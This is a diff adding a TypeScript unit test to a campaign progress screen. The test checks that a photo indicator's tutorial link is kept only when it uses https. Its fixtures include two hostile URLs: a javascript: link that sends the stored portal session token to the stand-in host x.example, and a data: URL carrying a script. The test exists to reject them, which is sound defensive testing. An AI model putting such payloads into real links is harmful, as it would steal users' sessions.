@@ -139,6 +139,33 @@ describe('campaign progress screen', () => {
     ]);
   });
 
+  it("a photo indicator's tutorial is a link only when the service's movieLink is https (product-rules R225)", async () => {
+    const { screen } = await progressScreen();
+    const withLink = (id: number, movieLink: string | null) => ({ ...photoIndicator, id, name: `Foto ${id}`, movieLink });
+    fake.expect(
+      { method: 'GET', url: DATA, reply: json(data) },
+      {
+        method: 'GET',
+        url: CURRENT,
+        reply: json(
+          period(10104, [
+            withLink(1, 'https://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4'),
+            withLink(2, 'javascript:fetch("//x.example?"+localStorage.getItem("portal:session:v1"))'),
+            withLink(3, 'http://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4'),
+            withLink(4, 'data:text/html,<script>alert(1)</script>'),
+            withLink(5, null),
+          ]),
+        ),
+      },
+    );
+    screen.start({ id: '101' });
+    const state = await settled(screen.$state);
+    if (state.state !== 'ready' || state.view.current.state !== 'ready') throw new Error('not ready');
+    expect(state.view.current.period?.indicators.map((indicator) => ('tutorialUrl' in indicator ? indicator.tutorialUrl : 'none'))).toEqual(
+      ['https://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4', null, null, null, null],
+    );
+  });
+
   it('an unknown campaign (404) is not found; a bad id asks nothing', async () => {
     const { screen } = await progressScreen();
     fake.expect({ method: 'GET', url: DATA, reply: json({ message: 'x' }, 404) }, { method: 'GET', url: CURRENT, reply: json(null) });
